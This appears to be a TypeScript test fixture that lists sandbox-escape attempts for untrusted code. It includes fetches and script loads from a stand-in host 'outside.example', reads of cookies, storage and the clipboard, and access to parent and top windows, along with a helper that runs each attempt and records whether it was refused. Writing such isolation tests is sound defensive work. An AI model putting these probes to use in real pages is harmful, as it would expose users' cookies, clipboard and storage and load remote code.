/**
 * What a stranger's code may try, as expressions. Each is tried in three places: in a cell, in the worker before
 * the runner takes the browser's names away, and in the frame.
 */

/** Where nobody may be called: every address of it is unknown but to the proxy that writes calls down. */
const OUTSIDE = 'outside.example';

/** A name for an attack, and an expression whose value, or whose promise's, is what it got. */
export type Attack = readonly [name: string, expression: string];

/** To get out over the network. */
export const NETWORK: readonly Attack[] = [
  ['fetch', `fetch('https://${OUTSIDE}/')`],
  ['fetch of the page’s own site', `fetch(new URL('/', 'http://127.0.0.1:4321'))`],
  ['a request', `xhr('https://${OUTSIDE}/')`],
  ['a web socket', `settled(new WebSocket('wss://${OUTSIDE}/'), 'open')`],
  ['server-sent events', `settled(new EventSource('https://${OUTSIDE}/'), 'open')`],
  ['web transport', `new WebTransport('https://${OUTSIDE}/').ready`],
  ['a font', `new FontFace('x', 'url(https://${OUTSIDE}/x.woff2)').load()`],
];

/** To load code from elsewhere, or to have it run where nobody can end it. */
export const CODE: readonly Attack[] = [
  ['a script', `importScripts('https://${OUTSIDE}/x.js')`],
  ['eval', `eval('1')`],
  ['a function from text', `new Function('return 1')()`],
  ['a nested worker', `settled(new Worker('https://${OUTSIDE}/x.js'), 'message')`],
  ['a shared worker', `settled(new SharedWorker('https://${OUTSIDE}/x.js').port, 'message')`],
  ['a service worker', `navigator.serviceWorker.register('https://${OUTSIDE}/x.js')`],
];

/** To read or leave something. */
export const STORAGE: readonly Attack[] = [
  ['cookies', 'document.cookie'],
  ['cookies, the other way', `cookieStore.getAll()`],
  ['local storage', 'localStorage.length'],
  ['session storage', 'sessionStorage.length'],
  [
    'a database',
    `new Promise((done, fail) => {
    const request = indexedDB.open('x');
    request.onsuccess = done;
    request.onerror = () => fail(request.error);
  })`,
  ],
  ['a cache', `caches.open('x')`],
  ['a private file system', 'navigator.storage.getDirectory()'],
  ['locks', `navigator.locks.query()`],
];

/** To reach the page, or the reader. */
export const PAGE: readonly Attack[] = [
  ['the page', 'parent.document.title'],
  ['the page’s storage', 'parent.localStorage.length'],
  ['the top', 'top.document.title'],
  ['navigation of the top', `(top.location = 'https://${OUTSIDE}/')`],
  ['a popup', `open('https://${OUTSIDE}/').closed`],
  [
    'a dialog',
    `(() => {
      if (prompt('x', 'y') === null) throw new Error('ignored');
    })()`,
  ],
  ['the clipboard', 'navigator.clipboard.readText()'],
  ['a notification', `settled(new Notification('x'), 'show')`],
];

/** Script text that tries attacks and returns what came of each: its name, and an error or what it got. */
export function trying(attacks: readonly Attack[]): string {
  const entries = attacks.map(
    ([name, expression]) => `[${JSON.stringify(name)}, async () => (${expression})]`,
  );
  return `
    const settled = (target, event) => new Promise((done, fail) => {
      target.addEventListener(event, () => done('OPEN'));
      target.addEventListener('error', () => fail(new Error('refused')));
    });
    const xhr = url => new Promise((done, fail) => {
      const request = new XMLHttpRequest();
      request.open('GET', url);
      request.onload = () => done('LOADED');
      request.onerror = () => fail(new Error('refused'));
      request.send();
    });
    const outcomes = {};
    const attempts = [${entries.join(',\n')}].map(async ([name, attempt]) => {
      try {
        outcomes[name] = 'GOT ' + await attempt();
      } catch (error) {
        outcomes[name] = (error?.name + ': ' + error?.message).replace(/\\s+/g, ' ');
      }
    });`;
}
